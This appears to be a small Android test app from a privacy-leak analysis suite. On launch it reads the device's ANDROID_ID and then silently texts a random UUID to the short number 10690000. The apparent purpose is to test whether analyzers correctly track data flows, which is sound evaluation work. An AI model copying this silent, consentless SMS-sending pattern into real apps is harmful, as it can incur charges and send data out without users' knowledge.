package cn.privlens.suite.uuid_random;

import android.app.Activity;
import android.os.Bundle;
import android.provider.Settings;
import android.telephony.SmsManager;
import java.util.UUID;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String id = Settings.Secure.getString(getContentResolver(), Settings.Secure.ANDROID_ID);
        UUID made = UUID.randomUUID();
        setTitle(id == null ? "no" : "yes");
        SmsManager.getDefault().sendTextMessage("10690000", null, made.toString().replace("-", ""), null, null);
    }
}
